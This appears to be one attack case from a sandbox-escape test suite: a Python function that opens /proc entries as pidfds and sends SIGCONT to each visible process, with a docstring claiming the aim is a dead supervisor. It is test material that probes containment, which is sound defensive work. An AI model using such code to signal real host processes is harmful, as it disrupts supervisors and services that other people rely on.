"""Signal by a /proc folder used as a pidfd.

gain: a dead supervisor
attack: T1489
stopped by: pid namespace, seccomp
unconfined: host
also refused by: ENOENT
"""

import os

from attacker import call, each, first


def attempt(world):
    def signal(pid):
        fd = os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY)
        call("pidfd_send_signal", fd, 18, 0, 0)
        return f"sent SIGCONT to process {pid} by a folder of /proc"

    return first(*each(world["pids"], signal))
